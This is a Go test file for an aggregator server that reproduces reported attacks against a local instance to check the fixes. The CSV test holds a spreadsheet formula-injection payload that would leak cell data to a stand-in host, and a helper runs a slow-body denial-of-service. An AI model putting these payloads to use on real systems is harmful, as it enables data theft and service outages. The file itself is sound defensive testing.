package aggregator_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"encoding/json"
	"log/slog"
	"net"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/wisp-project/wisp/aggregator"
	"github.com/wisp-project/wisp/aggregator/aggregatortest"
	"github.com/wisp-project/wisp/aggregator/store"
	"github.com/wisp-project/wisp/aggregator/store/storetest"
	"github.com/wisp-project/wisp/host"
	"github.com/wisp-project/wisp/internal/api"
	"github.com/wisp-project/wisp/internal/campaign"
	"github.com/wisp-project/wisp/internal/wire"
)

// The tests in this file reproduce the attacks of issue 15 against a real
// server on 127.0.0.1, one per row.

// TestCSVFormulaInjection (row 6): a marketer names a campaign
// =HYPERLINK(…); whoever opens the CSV export in a spreadsheet must see
// text, not a live formula. Every text cell starting with = + - @ tab or CR
// gets a ' prefix (OWASP, CSV injection).
func TestCSVFormulaInjection(t *testing.T) {
	f := newFixture(t, func(c *aggregator.Config) { c.Policy.MinK = 1 })
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	c := campaign.Campaign{ID: "evil", Name: evil, Question: campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5},
		Epsilon: 1, EpochSeconds: 3600, K: 1}
	if _, err := f.agg.CreateCampaign(ctx, c, "acme"); err != nil {
		t.Fatal(err)
	}
	f.campaign = c
	var batch []wire.Envelope
	for i := range 3 {
		batch = append(batch, f.report(t, i == 0))
	}
	f.upload(t, batch...)
	f.closeEpoch()
	f.releaseDue(t)
	for _, path := range []string{"/v1/campaigns/evil/results?format=csv", "/v1/segments?format=csv"} {
		status, body := f.do(t, "GET", path, f.operator, nil)
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if status != http.StatusOK || err != nil {
			t.Fatalf("%s: %d %v", path, status, err)
		}
		found := false
		for _, row := range rows[1:] {
			if row[0] != "evil" {
				continue
			}
			found = true
			if row[1] != "'"+evil {
				t.Errorf("%s: name cell %q, want it prefixed with '", path, row[1])
			}
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %d %q starts a formula", path, i, cell)
				}
			}
		}
		if !found {
			t.Fatalf("%s: no row for the campaign: %s", path, body)
		}
	}
}

// logBuffer collects a server's JSON log lines.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}
func (l *logBuffer) String() string { l.mu.Lock(); defer l.mu.Unlock(); return l.buf.String() }

// withLog sends the server's logs, debug and up, to l.
func withLog(l *logBuffer) func(*aggregator.Config) {
	return func(c *aggregator.Config) {
		c.Logger = slog.New(slog.NewJSONHandler(l, &slog.HandlerOptions{Level: slog.LevelDebug}))
	}
}

// metric reads one series (name with its labels, as /metrics prints it)
// from the node's /metrics; absent is 0.
func (f *fixture) metric(t testing.TB, series string) float64 {
	t.Helper()
	_, b := f.do(t, "GET", "/metrics", f.operator, nil)
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		if name, v, ok := strings.Cut(sc.Text(), " "); ok && name == series {
			x, err := strconv.ParseFloat(v, 64)
			if err != nil {
				t.Fatal(err)
			}
			return x
		}
	}
	return 0
}

// blockingStore holds every Insert until release is closed, and says on
// entered when one has started.
type blockingStore struct {
	store.Store
	entered chan struct{}
	release chan struct{}
}

func (b *blockingStore) Insert(ctx context.Context, reports []store.Report) ([]bool, error) {
	select {
	case b.entered <- struct{}{}:
	default:
	}
	<-b.release
	return b.Store.Insert(ctx, reports)
}

// TestClientGoneDuringCommit (row 9): a device that hangs up while its
// batch commits is not a store failure — no ERROR "store unavailable", no
// 503 in the metrics; it is logged at info and counted as client_closed.
func TestClientGoneDuringCommit(t *testing.T) {
	var logs logBuffer
	bs := &blockingStore{Store: sqliteStore(t), entered: make(chan struct{}, 1), release: make(chan struct{})}
	key, _ := wire.GenerateKeyPair(1, rand.Reader)
	f := newNode(t, bs, newClock(), withLog(&logs), func(c *aggregator.Config) {
		c.Keys = []*wire.KeyPair{key}
		c.Campaigns = []campaign.Campaign{runners}
	})
	// Batch a leads a group commit that the store holds; batch b waits
	// for the next group, and its device hangs up meanwhile.
	first := make(chan error, 1)
	a := []wire.Envelope{f.report(t, true)}
	go func() { _, err := f.client.Upload(context.Background(), a); first <- err }()
	<-bs.entered
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	batch := []wire.Envelope{f.report(t, true), f.report(t, false)}
	go func() { _, err := f.client.Upload(ctx, batch); done <- err }()
	time.Sleep(300 * time.Millisecond) // b is read, opened and waiting for the commit
	cancel()
	if err := <-done; err == nil {
		t.Fatal("upload succeeded after its context was cancelled")
	}
	deadline := time.Now().Add(10 * time.Second)
	for f.metric(t, `wisp_ingest_batches_total{status="client_closed"}`) != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("no batch counted as client_closed; 503s: %v; logs:\n%s",
				f.metric(t, `wisp_ingest_batches_total{status="503"}`), logs.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	close(bs.release)
	if err := <-first; err != nil {
		t.Fatalf("the leading batch: %v", err)
	}
	if n := f.metric(t, `wisp_ingest_batches_total{status="503"}`); n != 0 {
		t.Errorf("%v batches counted as 503", n)
	}
	if strings.Contains(logs.String(), `"level":"ERROR"`) {
		t.Errorf("a client hanging up was logged as an error:\n%s", logs.String())
	}
	if !strings.Contains(logs.String(), "client closed") {
		t.Errorf("no info line for the closed client:\n%s", logs.String())
	}
	// The reports may have been committed after all: a resend meets them
	// as replays or stores them, never an error.
	resp := f.upload(t, batch...)
	if resp.Accepted+resp.Rejected != 2 {
		t.Fatalf("resend: %+v", resp)
	}
}

// TestNodesStartTogether (row 5): four nodes started at once on an empty
// PostgreSQL schema, ten times over. Each must start — none may lose the
// race for the first HPKE key or the signing seed — and all must end with
// the same keys and the same signing key.
func TestNodesStartTogether(t *testing.T) {
	const rounds, nodes = 10, 4
	for round := range rounds {
		spec := "postgres:" + storetest.PostgresDSN(t)
		servers := make([]*aggregator.Server, nodes)
		errs := make([]error, nodes)
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i := range nodes {
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				st, err := store.Open(context.Background(), spec)
				if err != nil {
					errs[i] = err
					return
				}
				t.Cleanup(func() { st.Close() })
				servers[i], errs[i] = aggregator.New(aggregator.Config{Store: st, Taxonomy: mustTax(t), Tenant: "acme",
					Campaigns: []campaign.Campaign{runners}})
			}()
		}
		close(start)
		wg.Wait()
		for i, err := range errs {
			if err != nil {
				t.Fatalf("round %d: node %d did not start: %v", round, i, err)
			}
		}
		want, err := servers[0].KeyInfos(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		for i, s := range servers {
			got, err := s.KeyInfos(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != 1 || len(want) != 1 || got[0].ID != want[0].ID || !bytes.Equal(s.SigningKey(), servers[0].SigningKey()) {
				t.Fatalf("round %d: node %d has keys %+v and signing key %x; node 0 %+v and %x", round, i, got, s.SigningKey(), want, servers[0].SigningKey())
			}
		}
	}
}

// TestHeaderAndConnectionLimits (row 4): a request with a megabyte of
// headers is refused with 431 before the node buffers it, and connections
// beyond the cap wait to be accepted instead of each holding memory.
func TestHeaderAndConnectionLimits(t *testing.T) {
	f := newFixture(t)
	req, _ := http.NewRequest("GET", f.srv.URL+"/healthz", nil)
	req.Header.Set("X-Pad", strings.Repeat("a", 1_000_000))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
		t.Fatalf("1 MB of headers: status %d, want 431", resp.StatusCode)
	}

	// At most MaxConns connections are served; the next one waits.
	const maxConns = 4
	srv := aggregatortest.StartHTTP(t, aggregator.Config{Store: sqliteStore(t), Taxonomy: mustTax(t)}, aggregator.HTTPOptions{MaxConns: maxConns}, nil)
	addr := strings.TrimPrefix(srv.URL, "http://")
	get := func(c net.Conn, wait time.Duration) (int, error) {
		c.SetReadDeadline(time.Now().Add(wait))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			return 0, err
		}
		resp.Body.Close()
		return resp.StatusCode, nil
	}
	dial := func() net.Conn {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		if _, err := c.Write([]byte("GET /healthz HTTP/1.1\r\nHost: wisp\r\n\r\n")); err != nil {
			t.Fatal(err)
		}
		return c
	}
	var held []net.Conn
	for range maxConns {
		c := dial()
		if status, err := get(c, 10*time.Second); err != nil || status != http.StatusOK {
			t.Fatalf("connection %d: %d %v", len(held), status, err)
		}
		held = append(held, c) // kept alive, idle
	}
	extra := dial()
	if status, err := get(extra, 700*time.Millisecond); err == nil {
		t.Fatalf("connection %d beyond the cap was served at once (status %d)", maxConns+1, status)
	}
	held[0].Close()
	if status, err := get(extra, 10*time.Second); err != nil || status != http.StatusOK {
		t.Fatalf("the waiting connection after one closed: %d %v", status, err)
	}
}

// slowBody opens a connection and starts a report batch whose body it
// sends one byte per interval, until the test ends or the server hangs
// up. It returns when the headers and the first byte are sent; the
// channel gets the server's answer (or the read error) when it comes.
func slowBody(t testing.TB, url string, length int, interval time.Duration) <-chan string {
	t.Helper()
	c, err := net.Dial("tcp", strings.TrimPrefix(url, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	head := "POST /v1/reports HTTP/1.1\r\nHost: wisp\r\nContent-Type: application/cbor\r\nContent-Length: " + strconv.Itoa(length) + "\r\n\r\n\x98"
	if _, err := c.Write([]byte(head)); err != nil {
		t.Fatal(err)
	}
	go func() {
		for range length - 1 {
			time.Sleep(interval)
			if _, err := c.Write([]byte{0}); err != nil {
				return
			}
		}
	}()
	answer := make(chan string, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			answer <- err.Error()
			return
		}
		resp.Body.Close()
		answer <- resp.Status
	}()
	return answer
}

// TestSlowBodiesDoNotStarveIngest (row 1): eight clients send report
// batches at a byte a second. Before, each held an admission slot while it
// trickled (a slot is taken before the body is read; 4 slots on 2 cores),
// so every honest batch queued and got 429. Now the body is read — under a
// deadline — before a slot is taken: with the eight attached, every one of
// the honest batches is accepted.
func TestSlowBodiesDoNotStarveIngest(t *testing.T) {
	var logs logBuffer
	f := newFixture(t, withLog(&logs))
	var slow []<-chan string
	for range 8 {
		slow = append(slow, slowBody(t, f.srv.URL, 4096, 200*time.Millisecond))
	}
	time.Sleep(time.Second) // all eight are attached and in the handler
	const batches, size = 40, 10
	var accepted, failed atomic.Int64
	var wg sync.WaitGroup
	for w := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := w; i < batches; i += 4 {
				var batch []wire.Envelope
				for range size {
					batch = append(batch, f.report(t, i%2 == 0))
				}
				ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
				resp, err := f.client.Upload(ctx, batch)
				cancel()
				if err != nil {
					if failed.Add(1) == 1 {
						t.Log(err)
					}
					continue
				}
				accepted.Add(int64(resp.Accepted))
			}
		}()
	}
	wg.Wait()
	if got := accepted.Load(); got != batches*size || failed.Load() != 0 {
		t.Fatalf("with 8 slow clients attached: %d of %d reports accepted, %d of %d batches failed", got, batches*size, failed.Load(), batches)
	}
	for _, answer := range slow {
		select {
		case a := <-answer:
			if a != "408 Request Timeout" {
				t.Errorf("a slow client was answered %q, want 408", a)
			}
		case <-time.After(30 * time.Second):
			t.Fatal("a slow client is still attached after 30 s")
		}
	}
	if n := strings.Count(logs.String(), "body too slow: cut off"); n != 8 {
		t.Errorf("%d cut-offs logged, want 8:\n%s", n, logs.String())
	}
	if n := f.metric(t, "wisp_ingest_slow_bodies_total"); n != 8 {
		t.Errorf("wisp_ingest_slow_bodies_total = %v, want 8", n)
	}
}

// BenchmarkIngestUnderSlowBodies (row 1): the rate of honest ingest (4
// devices uploading 100-report batches) with eight slow-body clients kept
// attached, over the rate without them; reported as rate-ratio (issue 15
// asks ≥ 0.8). Reports are sealed before the clock starts.
func BenchmarkIngestUnderSlowBodies(b *testing.B) {
	f := newFixture(b, withLog(&logBuffer{}))
	ctx := context.Background()
	list, err := f.client.KeyConfigs(ctx)
	if err != nil {
		b.Fatal(err)
	}
	rep := host.Reporter{Key: list.Configs[0]}
	epoch := f.campaign.Epoch(f.clock.Now())
	const size, workers = 100, 4
	n := max(b.N, 16*workers)
	seal := func() [][]wire.Envelope {
		out := make([][]wire.Envelope, n)
		for i := range out {
			for j := range size {
				e, err := rep.Report(&f.campaign, epoch, map[uint32]float32{410: float32(j%2) * 0.9})
				if err != nil {
					b.Fatal(err)
				}
				out[i] = append(out[i], e)
			}
		}
		return out
	}
	run := func(batches [][]wire.Envelope) time.Duration {
		start := time.Now()
		var wg sync.WaitGroup
		for w := range workers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := w; i < len(batches); i += workers {
					if resp, err := f.client.Upload(ctx, batches[i]); err != nil || resp.Accepted != size {
						b.Errorf("batch %d: %v %d accepted", i, err, resp.Accepted)
					}
				}
			}()
		}
		wg.Wait()
		return time.Since(start)
	}
	// Alternate the phases (alone, attacked, alone, attacked, …) so that
	// neither gets the emptier database or the quieter machine.
	const rounds = 4
	batches := seal()
	attack := func() (stop func()) {
		done := make(chan struct{})
		var attackers sync.WaitGroup
		for range 8 {
			attackers.Add(1)
			go func() { // one slow client attached at all times
				defer attackers.Done()
				for {
					select {
					case <-slowBody(b, f.srv.URL, 4096, time.Second):
					case <-done:
						return
					}
				}
			}()
		}
		time.Sleep(300 * time.Millisecond) // attached
		return func() { close(done); attackers.Wait() }
	}
	var alone, under time.Duration
	b.ResetTimer()
	for r := range 2 * rounds {
		part := batches[r*n/(2*rounds) : (r+1)*n/(2*rounds)]
		if r%2 == 0 {
			alone += run(part)
			continue
		}
		b.StopTimer()
		stop := attack()
		b.StartTimer()
		under += run(part)
		b.StopTimer()
		stop()
		b.StartTimer()
	}
	b.StopTimer()
	b.ReportMetric(alone.Seconds()/under.Seconds(), "rate-ratio")
	b.ReportMetric(float64(n*size)/2/alone.Seconds(), "reports/s-alone")
	b.ReportMetric(float64(n*size)/2/under.Seconds(), "reports/s-attacked")
}

// TestCampaignNewToNode (row 2): a campaign created on node a; at once
// eight devices send 100 reports each for it to node b, which has not
// seen it. Before, one request per second reloaded and the others' reports
// were rejected as unknown_campaign (550–800 of 800). Now the requests
// that miss share one reload and none is lost.
func TestCampaignNewToNode(t *testing.T) {
	spec := "postgres:" + storetest.PostgresDSN(t)
	clk := newClock()
	key, err := wire.GenerateKeyPair(7, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	a := newNode(t, storetest.Open(t, spec), clk, func(c *aggregator.Config) { c.Keys = []*wire.KeyPair{key} })
	b := newNode(t, storetest.Open(t, spec), clk, func(c *aggregator.Config) { c.Ingest.Queue = 64 })
	for round, id := range []string{"hikers", "climbers", "swimmers"} {
		c := campaign.Campaign{ID: id, Name: id, Question: campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5},
			Epsilon: 1, EpochSeconds: 3600, K: 50}
		b.campaign = c
		const clients, per = 8, 100
		batches := make([][]wire.Envelope, clients)
		for i := range batches {
			for j := range per {
				batches[i] = append(batches[i], b.report(t, j%2 == 0))
			}
		}
		if _, err := a.agg.CreateCampaign(context.Background(), c, "acme"); err != nil {
			t.Fatal(err)
		}
		var lost, accepted atomic.Int64
		var wg sync.WaitGroup
		for _, batch := range batches {
			wg.Add(1)
			go func() {
				defer wg.Done()
				resp := b.upload(t, batch...)
				accepted.Add(int64(resp.Accepted))
				for _, r := range resp.Results {
					if r.Reason == api.ReasonUnknownCampaign {
						lost.Add(1)
					}
				}
			}()
		}
		wg.Wait()
		if lost.Load() != 0 || accepted.Load() != clients*per {
			t.Fatalf("round %d: %d of %d reports rejected as unknown_campaign, %d accepted", round, lost.Load(), clients*per, accepted.Load())
		}
	}
}

// problemOf decodes a problem document.
func problemOf(t testing.TB, b []byte) (title, reason string) {
	t.Helper()
	var p struct{ Title, Reason string }
	if err := json.Unmarshal(b, &p); err != nil {
		t.Fatalf("problem %q: %v", b, err)
	}
	return p.Title, p.Reason
}

// TestCampaignLimits (row 3): one marketer token could register campaigns
// without end, each with a megabyte name, until the node's memory and
// every device's /v1/campaign-configs were hundreds of megabytes. Names,
// categories and campaigns per tenant are bounded by the Policy (with
// defaults); a refusal is a 422 problem with a reason code.
func TestCampaignLimits(t *testing.T) {
	f := newFixture(t)
	acme := f.srv.Token(t, api.RoleMarketer, "acme")
	create := func(token string, c campaign.Campaign) (int, []byte) {
		raw, _ := json.Marshal(c)
		return f.do(t, "POST", "/v1/campaigns", token, api.CreateCampaignRequest{Campaign: raw})
	}
	base := campaign.Campaign{Name: "Hikers", Question: campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5},
		Epsilon: 1, EpochSeconds: 3600, K: 50}

	c := base
	c.ID, c.Name = "huge", strings.Repeat("n", 1_000_000)
	if status, b := create(acme, c); status != http.StatusUnprocessableEntity {
		t.Fatalf("a 1 MB name: status %d, want 422", status)
	} else if _, reason := problemOf(t, b); aggregator.ProblemReason(reason) != aggregator.ReasonNameTooLong {
		t.Fatalf("a 1 MB name: reason %q", reason)
	}

	c = base
	c.ID, c.Question = "wide", campaign.Question{Type: "top_k", K: 3}
	f2 := newFixture(t, func(c *aggregator.Config) { c.Policy.MaxCategories = 100 })
	raw, _ := json.Marshal(c)
	status, b := f2.do(t, "POST", "/v1/campaigns", f2.operator, api.CreateCampaignRequest{Campaign: raw, Tenant: "acme"})
	if _, reason := problemOf(t, b); status != http.StatusUnprocessableEntity || aggregator.ProblemReason(reason) != aggregator.ReasonTooManyCategories {
		t.Fatalf("497 categories over a limit of 100: %d %q", status, reason)
	}

	// The default quota: a tenant's campaigns stop at 100; another tenant
	// is not affected; what devices download stays small.
	const quota = 100
	for i := range quota + 5 {
		c := base
		c.ID, c.Name = "c"+strconv.Itoa(i), strings.Repeat("n", 200)
		status, b := create(acme, c)
		switch {
		case i < quota-1 && status != http.StatusCreated: // runners is acme's already
			t.Fatalf("campaign %d: status %d: %s", i, status, b)
		case i >= quota-1:
			if _, reason := problemOf(t, b); status != http.StatusUnprocessableEntity || aggregator.ProblemReason(reason) != aggregator.ReasonCampaignQuota {
				t.Fatalf("campaign %d past the quota: %d %q", i, status, reason)
			}
		}
	}
	globex := f.srv.Token(t, api.RoleMarketer, "globex")
	c = base
	c.ID = "globex-1"
	if status, b := create(globex, c); status != http.StatusCreated {
		t.Fatalf("another tenant: %d %s", status, b)
	}
	_, b = f.do(t, "GET", "/v1/campaign-configs", "", nil)
	if len(b) > 1<<20 {
		t.Errorf("/v1/campaign-configs is %d bytes", len(b))
	}
}

// TestSensitiveCategoriesRefused (issue 14, item 7): a marketer cannot ask
// about health, politics or religion — not directly, not under a child
// category, not inside a top_k set — and gets a clear problem; an operator
// policy with no sensitive subtrees lets the same campaign through.
func TestSensitiveCategoriesRefused(t *testing.T) {
	f := newFixture(t)
	acme := f.srv.Token(t, api.RoleMarketer, "acme")
	create := func(f *fixture, c campaign.Campaign) (int, string) {
		raw, _ := json.Marshal(c)
		status, b := f.do(t, "POST", "/v1/campaigns", acme, api.CreateCampaignRequest{Campaign: raw})
		if status == http.StatusCreated {
			return status, ""
		}
		_, reason := problemOf(t, b)
		return status, reason
	}
	camp := func(id string, q campaign.Question) campaign.Campaign {
		return campaign.Campaign{ID: id, Name: id, Question: q, Epsilon: 1, EpochSeconds: 3600, K: 50}
	}
	refused := []campaign.Campaign{
		camp("conditions", campaign.Question{Type: "threshold", Category: 550, MinScore: 0.5}),
		camp("elections", campaign.Question{Type: "threshold", Category: 530, MinScore: 0.5}), // under 529 Politics
		camp("religious-music", campaign.Question{Type: "mean", Category: 503}),
		camp("mixed-top", campaign.Question{Type: "top_k", Categories: []uint32{410, 551}, K: 1}), // 551 under 550 Conditions
		camp("all-top", campaign.Question{Type: "top_k", K: 3}),
	}
	for _, c := range refused {
		if status, reason := create(f, c); status != http.StatusUnprocessableEntity || aggregator.ProblemReason(reason) != aggregator.ReasonSensitive {
			t.Errorf("%s: status %d reason %q, want 422 sensitive_category", c.ID, status, reason)
		}
	}
	if status, reason := create(f, camp("runners-2", campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5})); status != http.StatusCreated {
		t.Errorf("Running (Healthy Living) refused: %d %q", status, reason)
	}
	open := newFixture(t, func(c *aggregator.Config) { c.Policy.SensitiveCategories = []uint32{} })
	acme = open.srv.Token(t, api.RoleMarketer, "acme")
	if status, reason := create(open, refused[0]); status != http.StatusCreated {
		t.Errorf("with no sensitive subtrees: %d %q, want 201", status, reason)
	}
}

// TestRequireReportTokensPolicy: with RequireReportTokens, a marketer's
// campaign without report_tokens is refused with its reason, one with
// them is taken, and GET /v1/policy says so up front.
func TestRequireReportTokensPolicy(t *testing.T) {
	f := newFixture(t, func(c *aggregator.Config) { c.Policy.RequireReportTokens = true })
	acme := f.srv.Token(t, api.RoleMarketer, "acme")
	var pol api.Policy
	if status, b := f.do(t, "GET", "/v1/policy", acme, nil); status != http.StatusOK || json.Unmarshal(b, &pol) != nil ||
		!pol.RequireReportTokens || !slices.Contains(pol.SensitiveCategories, 529) {
		t.Errorf("GET /v1/policy: %d %s, want require_report_tokens and the sensitive subtrees (529 Politics among them)", status, b)
	}
	c := campaign.Campaign{ID: "plain", Name: "plain", Question: campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5}, Epsilon: 1, EpochSeconds: 3600, K: 50}
	raw, _ := json.Marshal(c)
	status, b := f.do(t, "POST", "/v1/campaigns", acme, api.CreateCampaignRequest{Campaign: raw})
	if _, reason := problemOf(t, b); status != http.StatusUnprocessableEntity || aggregator.ProblemReason(reason) != aggregator.ReasonTokensRequired {
		t.Errorf("a campaign without report_tokens: %d %q, want 422 %s", status, reason, aggregator.ReasonTokensRequired)
	}
	c.ID, c.ReportTokens = "tokened", &campaign.ReportTokens{IssuerURL: "https://issuer.example", IssuerName: "issuer.example"}
	raw, _ = json.Marshal(c)
	if status, b := f.do(t, "POST", "/v1/campaigns", acme, api.CreateCampaignRequest{Campaign: raw}); status != http.StatusCreated {
		t.Errorf("a campaign with report_tokens: %d %s", status, b)
	}
}
